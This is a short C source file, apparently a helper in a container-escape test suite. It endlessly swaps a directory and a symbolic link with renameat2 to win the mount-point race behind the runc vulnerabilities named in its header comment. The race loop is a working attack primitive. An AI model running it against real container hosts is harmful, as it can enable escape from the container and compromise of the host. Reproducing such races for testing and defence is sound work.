/*
 * swap: what a hostile jail does in the race for a mount point or a file
 * (CVE-2021-30465, CVE-2025-31133, CVE-2025-52565): exchange two names, a
 * directory and a symbolic link, as fast as it can, until it is killed.
 *
 *	swap A B
 */
#include "escape.h"

#include <fcntl.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		broken("usage: swap A B");
	for (;;)
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2],
			      RENAME_EXCHANGE) < 0)
			broken("%s: %s", argv[1], strerror(errno));
}
